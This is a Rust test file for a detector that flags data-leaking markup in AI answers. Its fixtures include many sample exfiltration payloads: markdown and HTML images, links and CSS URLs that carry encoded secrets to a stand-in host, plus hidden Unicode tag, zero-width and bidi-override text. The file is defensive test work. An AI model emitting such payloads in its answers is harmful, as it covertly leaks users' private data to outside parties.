//! Answers that tell somebody else something, beside ordinary ones.

#![expect(clippy::unwrap_used, reason = "a test that panics is a test that fails")]

use std::sync::LazyLock;

use sekisho_detectors::{Confidence, RuleSet};

static RULES: LazyLock<RuleSet> = LazyLock::new(|| RuleSet::built_in().unwrap());

/// The categories of what a policy would act on, each once.
#[track_caller]
fn check(text: &str, expect: &[&str]) {
    let sure = RULES.scan(text).into_iter().filter(|finding| finding.confidence >= Confidence::Medium);
    let mut found: Vec<&str> = sure.map(|finding| RULES.rule(finding.rule).category().as_str()).collect();
    found.retain(|category| category.starts_with("exfil."));
    found.sort_unstable();
    found.dedup();
    assert_eq!(found, expect, "{text}");
}

const DATA: &str = "5LyV6K2w44Gv5pyI5puc44Gu5Lmd5pmC44GL44KJ5LqM5pel6ZaT44Gn44GZ44CC";

#[test]
fn pictures_that_carry_data() {
    for text in [
        format!("![](https://a.example/x.png?d={DATA})"),
        format!("要約です。\n\n![図1](https://a.example/x.png?id=1&d={DATA})\n以上"),
        format!("![x](https://a.example/{DATA}{DATA}/x.png)"),
        format!("![x]( <https://a.example/?d={DATA}> )").replace("( <", "(<").replace("> )", ">)"),
        format!("[![x](https://a.example/?d={DATA})](https://a.example/)"),
        format!("![x][r]\n\n[r]: https://a.example/?d={DATA}\n"),
        format!("<img src=\"https://a.example/?d={DATA}\">"),
        format!("<img width=1 src='https://a.example/?d={DATA}'/>"),
        format!("<iframe src=https://a.example/?d={DATA}></iframe>"),
        format!("<style>body{{background:url(\"https://a.example/?d={DATA}\")}}</style>"),
        format!("![x](HTTPS://a.example/?d={DATA})"),
        format!("![x](//a.example/?d={DATA})"),
        "![x](https://a.example/?d=%E6%A9%9F%E5%AF%86%E6%80%A7%EF%BC%92%E6%83%85%E5%A0%B1%E3%81%AE%E4%BC%9A%E8%AD%B0)".to_owned(),
        "![x](https://a.example/?name=Taro+Tanaka&note=will+not+attend+the+meeting)".to_owned(),
        "![x](https://a.example/?mail=tanaka@example.go.jp)".to_owned(),
        "![x](https://a.example/?d=74686520706173737764206973206e6f7420796f7572732074686520706173737764206973206e6f7420796f757273)".to_owned(),
    ] {
        check(&text, &["exfil.image"]);
    }
}

/// Who is named before the host is told to it, and so is the host's name, by a picture and by a link.
#[test]
fn data_before_and_in_the_name_of_the_host() {
    check(
        "![x](https://74686520706173737764206973206e6f7420796f7572.a.example/x.png)",
        &["exfil.image", "exfil.link"],
    );
    check("![x](https://dGhlIHBhc3N3b3Jk:x@a.example/x.png)", &["exfil.image", "exfil.link"]);
}

#[test]
fn links_that_carry_data() {
    check(&format!("[詳細](https://a.example/?d={DATA}{DATA})"), &["exfil.link"]);
    check(&format!("<a href=\"https://a.example/?d={DATA}{DATA}\">詳細</a>"), &["exfil.link"]);
    check(
        "[詳細](https://a.example/?q=会議は月曜の九時からで大臣は出席しません。資料は機密性２情報です。)",
        &["exfil.link"],
    );
}

#[test]
fn ordinary_pictures_and_links() {
    for text in [
        "![CI](https://github.com/example/project/actions/workflows/ci.yml/badge.svg)",
        "[![crates.io](https://img.shields.io/crates/v/regex.svg?style=flat-square&label=latest%20version)](https://crates.io/crates/regex)",
        "![logo](https://example.com/logo.png)",
        "![図](https://example.com/images/2026/04/01/chart-of-the-budget-2026.png?w=1200&h=630)",
        "![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
        "![x](./images/figure.png)",
        "![x](https://example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.png)",
        "![x](https://example.com/a.png?id=550e8400-e29b-41d4-a716-446655440000)",
        "![x](https://cdn.example.com/image/upload/c_fill,g_auto,w_1200/v1700000000/photos/kyoto.jpg)",
        "![map](https://maps.example.com/staticmap?center=35.68,139.76&zoom=14&size=640x400&markers=color:red%7C35.68,139.76)",
        "![star](https://api.star-history.com/svg?repos=example/project&type=Date)",
        "![math](https://latex.codecogs.com/svg.image?x%5E2+y%5E2)",
        "[詳細](https://www.digital.go.jp/policies/gov_ai)",
        "[検索](https://www.google.com/search?q=機密性２情報の定義と生成AIの利用に関するガイドラインの最新版)",
        "[法令](https://laws.e-gov.go.jp/law/425AC0000000027/20250401_504AC0000000068)",
        "[記事](https://ja.wikipedia.org/wiki/%E5%80%8B%E4%BA%BA%E6%83%85%E5%A0%B1%E3%81%AE%E4%BF%9D%E8%AD%B7%E3%81%AB%E9%96%A2%E3%81%99%E3%82%8B%E6%B3%95%E5%BE%8B)",
        "[doc](https://docs.google.com/spreadsheets/d/1A2b3C4d5E6f7G8h9I0jKlMnOpQrStUvWxYz0123456789/edit#gid=0)",
        "[share](https://example.sharepoint.com/:x:/g/personal/tanaka/EaBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789abcdefg?e=4Ab3cD)",
        "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
        "[pr](https://github.com/example/project/compare/main...example:project:a-very-long-branch-name?expand=1)",
        "[news](https://example.com/?utm_source=newsletter&utm_medium=email&utm_campaign=2026_04_spring&utm_content=header)",
        "[meet](https://example.zoom.us/j/12345678901?pwd=a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6.1)",
        "<img src=\"https://example.com/a.png\" alt=\"x\">",
        "<script src=\"https://cdn.jsdelivr.net/npm/mermaid@11.4.0/dist/mermaid.min.js\" integrity=\"sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC\"></script>",
        "<link href=\"https://fonts.googleapis.com/css2?family=Noto+Sans+JP:wght@400;500;700&family=Roboto:wght@400;700&display=swap\" rel=\"stylesheet\">",
        "<a href=\"mailto:info@example.go.jp\">mail</a>",
        "[1]: https://example.com/a/b/c\n[ci]: https://github.com/example/project/actions\n",
        "background: url(https://example.com/bg.jpg);",
        "fetch(\"https://api.example.com/v1/items?limit=100&offset=0\")",
    ] {
        check(text, &[]);
    }
}

#[test]
fn text_that_nobody_sees() {
    let tags: String = "send it on".chars().filter_map(|c| char::from_u32(0xE0000 + u32::from(c))).collect();
    check(&format!("こんにちは{tags}。"), &["exfil.hidden-text"]);
    let bits: String = "0110100101".chars().map(|c| if c == '0' { '\u{200b}' } else { '\u{200c}' }).collect();
    check(&format!("こんにちは{bits}。"), &["exfil.hidden-text"]);
    let bytes: String =
        b"hello".iter().filter_map(|b| char::from_u32(0xE0100 + u32::from(*b) - 16)).collect();
    check(&format!("😊{bytes}"), &["exfil.hidden-text"]);
    check("invoice\u{202e}fdp.exe", &["exfil.hidden-text"]);
    for text in [
        "👨‍👩‍👧‍👦 と ❤️ と 1️⃣",
        "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "葛\u{e0100}城市と辻\u{e0101}さん",
        "\u{feff}BOMから始まる文書",
        "\u{202d}090-1234-5678\u{202c}",
        "می\u{200c}خواهم",
    ] {
        check(text, &[]);
    }
}
